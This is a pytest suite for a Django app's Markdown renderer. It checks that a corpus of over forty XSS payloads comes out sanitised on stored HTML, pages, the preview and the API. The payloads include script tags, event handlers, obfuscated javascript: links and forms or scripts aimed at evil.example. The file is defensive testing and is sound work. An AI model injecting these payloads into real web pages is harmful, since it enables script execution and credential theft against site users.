"""XSS corpus: nothing executable reaches body_html, the standard's page, the preview or the API.

Checks are structural (the HTML is parsed): which tags and attributes exist and where links
point. Escaped text such as ``&lt;script&gt;`` is harmless and allowed to appear as text.
"""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.test import Client
from django.urls import reverse

from standards import services
from standards.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, LINK_REL, render_markdown
from standards.models import StandardVersion

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<a href="#" onclick="alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](java\tscript:alert(1))",
    "[click](\njavascript:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](VBScript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    "[ref link][evil]\n\n[evil]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![pixel](javascript:alert(1))",
    "![tracker](https://evil.example/pixel.png)",
    '<a href="javascript:alert(1)">html link</a>',
    '<a href="&#x6A;avascript:alert(1)">entity link</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab link</a>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;top:0;left:0;width:100%">overlay</div>',
    "<style>body { display: none }</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!-- <script>alert(1)</script> -->",
    '[title](https://ok.example "\\"><script>alert(1)</script>")',
    '[quote](https://ok.example" onmouseover="alert(1))',
    "`<img src=x onerror=alert(1)>` in code",
    "```html\n<script>alert(1)</script>\n```",
]

DANGEROUS_SCHEMES = {"javascript", "vbscript", "data", "file"}


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.script_text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.script_text.append(data)


def _parse(html: str) -> _Collector:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector


def _scheme(url: str) -> str:
    cleaned = "".join(ch for ch in url if ch.isprintable() and not ch.isspace())
    return urlsplit(cleaned.lower()).scheme


def assert_clean_fragment(html: str) -> None:
    """Sanitised body HTML: only allowed tags and attributes, only safe links."""
    for tag, attrs in _parse(html).tags:
        assert tag in ALLOWED_TAGS, (tag, html)
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert set(attrs) <= allowed, (tag, attrs, html)
        if tag == "a":
            assert _scheme(attrs.get("href") or "") in {"", "http", "https", "mailto"}, attrs
            assert attrs.get("rel") == LINK_REL


def assert_safe_page(html: str) -> None:
    """A whole page: our own scripts and styles only, no handlers, styles or bad links."""
    parsed = _parse(html)
    assert not parsed.script_text, parsed.script_text  # no inline script
    for tag, attrs in parsed.tags:
        assert tag not in {"iframe", "object", "embed", "svg", "math", "base", "img", "style"}, tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, value)
            assert name not in {"style", "srcdoc"}, (tag, name, value)
            if name in {"href", "src", "action", "formaction", "data"} and value:
                assert _scheme(value) not in DANGEROUS_SCHEMES, (tag, name, value)
        if tag == "script":
            assert (attrs.get("src") or "").startswith("/static/"), attrs
        if tag == "link":
            assert (attrs.get("href") or "").startswith("/static/"), attrs
        if tag == "meta":
            assert "http-equiv" not in attrs, attrs


@pytest.mark.parametrize("payload", PAYLOADS)
def test_rendered_payload_is_clean(payload):
    assert_clean_fragment(render_markdown(payload))


def test_corpus_is_big_enough():
    assert len(PAYLOADS) >= 25


def test_safe_markdown_still_renders():
    html = render_markdown(
        "## Steps\n\n1. **Greet**\n2. *Listen*\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "[Guide](https://example.com/guide) and [mail](mailto:team@example.com)"
    )
    assert "<h3>Steps</h3>" in html
    assert "<ol>" in html
    assert "<strong>Greet</strong>" in html
    assert "<table>" in html
    assert '<a href="https://example.com/guide" rel="noopener noreferrer">Guide</a>' in html
    assert 'href="mailto:team@example.com"' in html


@pytest.fixture
def xss_standard(manager):
    """A published standard whose body, criteria and situations are the whole corpus."""
    standard = services.standard_create(
        user=manager, title='<img src=x onerror=alert("title")>', category="<script>c</script>"
    )
    version = services.version_create_draft(
        standard=standard,
        user=manager,
        body_markdown="\n\n".join(PAYLOADS),
        change_summary="<script>alert('summary')</script>",
        criteria=[{"text": p[:500], "weight": 1} for p in PAYLOADS[:10]],
        situations=[
            {"title": p[:200], "customer_says": p, "prescribed_response": p}
            for p in PAYLOADS[10:15]
        ],
    )
    services.version_publish(version=version, user=manager, allow_draft=True)
    return standard


def test_stored_body_html_is_clean(xss_standard):
    version = xss_standard.versions.get(status=StandardVersion.Status.PUBLISHED)
    assert_clean_fragment(version.body_html)
    assert "&lt;script&gt;" in version.body_html  # shown as text, not run


def test_standard_page_is_safe(xss_standard, staff_client):
    response = staff_client.get(xss_standard.get_absolute_url())
    assert response.status_code == 200
    assert_safe_page(response.content.decode())


@pytest.mark.parametrize("path", ["list", "history", "version", "diff"])
def test_other_pages_are_safe(xss_standard, manager_client, path):
    urls = {
        "list": reverse("standards:list"),
        "history": reverse("standards:history", args=[xss_standard.slug]),
        "version": reverse("standards:version-detail", args=[xss_standard.slug, 1]),
        "diff": reverse("standards:diff", args=[xss_standard.slug]) + "?from=1&to=1",
    }
    response = manager_client.get(urls[path])
    assert response.status_code == 200
    assert_safe_page(response.content.decode())


def test_api_body_html_is_clean(xss_standard, staff_api, manager_api):
    detail = staff_api.get(f"/api/v1/standards/{xss_standard.pk}/").json()
    assert_clean_fragment(detail["current_version"]["body_html"])
    listing = manager_api.get(f"/api/v1/standards/{xss_standard.pk}/versions/").json()
    for version in listing["results"]:
        assert_clean_fragment(version["body_html"])


def test_preview_is_clean(manager):
    client = Client(enforce_csrf_checks=False)
    client.force_login(manager)
    response = client.post(reverse("standards:preview"), {"body_markdown": "\n\n".join(PAYLOADS)})
    assert response.status_code == 200
    assert_clean_fragment(response.json()["html"])
